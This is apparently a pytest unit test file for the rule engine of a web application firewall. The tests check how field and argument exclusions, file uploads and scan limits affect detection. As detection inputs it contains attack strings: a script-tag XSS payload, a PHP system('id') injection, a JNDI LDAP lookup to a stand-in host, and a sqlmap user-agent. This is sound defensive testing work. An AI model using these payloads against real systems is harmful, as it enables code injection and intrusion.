"""If the first match of a pattern is outside of its rule's targets, the search continues, but only as needed."""

from dataclasses import replace

import pytest

from gatewall.engine.model import Action
from gatewall.engine.waf.builtin.regions import IN_FILE, IN_TEXT, regions_of
from gatewall.engine.waf.exclusions import Exclusion
from gatewall.engine.waf.judge import COMPILED_NOW, builtin_rules
from gatewall.engine.waf.matcher import RuleSet
from gatewall.engine.waf.rules import THRESHOLD, BodyRegion
from tests.support.cast import a_request
from tests.unit.body_requests import PARTS, field, form_data, request

SCRIPT = "<script>alert(1)</script>"
TEXT = "some ordinary words of a text\r\n" * 400
RULES = builtin_rules()
SPARED = (Exclusion(multipart_field="spared"),)
OTHER = (Exclusion(multipart_field="other"),)


def excepted(exclusions):
    return [replace(rule, exclusions=exclusions) for rule in RULES]


def sent(*fields, file=""):
    extra = f'; filename="{file}"' if file else ""
    return request(*form_data(*[(field(name, extra), text) for name, text in fields]))


def hits(rules, asked, stop_at=THRESHOLD):
    return {hit.rule.name: hit.name for hit in rules.hits(asked, None, stop_at)}


@pytest.fixture(params=[COMPILED_NOW, None], ids=["hyperscan", "re2"])
def scanners(request):
    return request.param


@pytest.mark.parametrize("stop_at", [0, THRESHOLD])
@pytest.mark.parametrize("long", [TEXT, "some words\r\n" * 9])
def test_attack_behind_an_excluded_match_is_found_at_its_place(scanners, stop_at, long):
    rules = RuleSet(excepted(SPARED), scanners)
    attack = long + SCRIPT

    assert "xss-script-tag" not in hits(rules, sent(("spared", attack), ("open", long)), stop_at)
    for fields in ((("spared", attack), ("open", attack)), (("open", attack), ("spared", attack))):
        assert hits(rules, sent(*fields), stop_at)["xss-script-tag"] == "open"


@pytest.mark.parametrize("stop_at", [0, THRESHOLD])
def test_rules_with_different_exclusions_look_behind_their_own_excluded_parts(scanners, stop_at):
    rules = [replace(rule, exclusions=SPARED if rule.name == "xss-script-tag" else OTHER) for rule in RULES]
    fields = [(name, TEXT + SCRIPT) for name in ("spared", "other")]

    for asked in (sent(*fields), sent(*fields[::-1])):
        assert hits(RuleSet(rules, scanners), asked, stop_at)["xss-script-tag"] == "other"


def test_rule_that_looks_at_user_agents_finds_one_behind_the_same_words_in_arguments(scanners):
    rules = RuleSet(excepted((Exclusion(argument="spared"),)), scanners)
    uri, agent = "/?open=sqlmap/1.7%23x&spared=a-b&other=sqlmap/1.7%23x", "sqlmap/1.7#stable"

    assert "scanner-user-agent" not in hits(rules, a_request(uri=uri), 0)
    assert "scanner-user-agent" in hits(rules, a_request(uri=uri, headers={"user-agent": agent}), 0)


def test_text_is_scanned_once_if_all_its_matches_are_excluded():
    rules = RuleSet(excepted(SPARED))
    scanner = Counted(rules._builtin._in_texts.scanner)
    rules._builtin._in_texts.scanner = scanner
    hits(rules, sent(("spared", TEXT + SCRIPT), ("open", TEXT)))

    assert len(scanner.texts) == 1
    assert scanner.texts[0].rindex(b"<script>") > len(TEXT)


class Counted:
    """Notes the texts that a scanner scans."""

    name, left_out = "hyperscan", frozenset()

    def __init__(self, scanner):
        self.scanner = scanner
        self.texts = []

    def scan(self, text):
        self.texts.append(text)
        return self.scanner.scan(text)

    def scan_until(self, text, is_enough):
        self.texts.append(text)
        return self.scanner.scan_until(text, is_enough)


def test_files_are_scanned_by_the_rules_that_inspect_them_alone():
    inspecting = [number for number, rule in enumerate(RULES) if BodyRegion.FILE in regions_of(rule)]

    assert list(IN_FILE) == inspecting
    assert set(IN_FILE) < set(IN_TEXT)


FILE_ATTACKS = {"injection-php-code": "<?php system('id'); ?>", "injection-jndi-lookup": "${jndi:ldap://x.example/a}"}


@pytest.mark.parametrize("name", FILE_ATTACKS)
@pytest.mark.parametrize("stop_at", [0, THRESHOLD])
@pytest.mark.parametrize("action", Action)
def test_attack_in_a_file_is_found_and_one_for_texts_is_not(scanners, name, stop_at, action):
    rules = RuleSet([replace(rule, action=action) for rule in RULES], scanners)
    found = hits(rules, sent(("a", TEXT + SCRIPT + TEXT + FILE_ATTACKS[name] + TEXT), file="a.txt"), stop_at)

    assert name in found
    assert "xss-script-tag" not in found
    assert name not in hits(rules, sent(("a", TEXT + SCRIPT), file="a.txt"), stop_at)


@pytest.mark.parametrize("stop_at", [0, THRESHOLD])
def test_attack_in_a_field_beside_a_file_is_found(scanners, stop_at):
    file, _ = form_data((field("a", '; filename="a.txt"'), TEXT))
    body = file.decode().removesuffix("--b--\r\n") + form_data((field("open"), TEXT + SCRIPT))[0].decode()

    assert "xss-script-tag" in hits(RuleSet(RULES, scanners), request(body, PARTS), stop_at)
